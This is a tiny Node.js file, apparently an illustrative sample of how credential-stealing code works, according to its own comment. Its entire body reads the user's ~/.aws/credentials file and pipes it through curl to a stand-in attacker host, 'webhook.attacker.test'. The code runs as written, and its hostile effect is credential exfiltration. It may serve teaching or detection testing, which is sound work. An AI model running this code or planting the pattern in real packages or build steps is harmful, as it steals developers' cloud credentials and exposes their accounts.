// SPDX-License-Identifier: Apache-2.0
// What the real ones do, in five lines: read a credential, hand it to curl. The home is a dummy, the host is made up.
const { readFileSync } = require('fs')
const { spawnSync } = require('child_process')

const loot = readFileSync(process.env.HOME + '/.aws/credentials')
spawnSync('curl', ['-4', '-s', '-m', '30', '--data-binary', '@-', 'http://webhook.attacker.test/'], { input: loot })
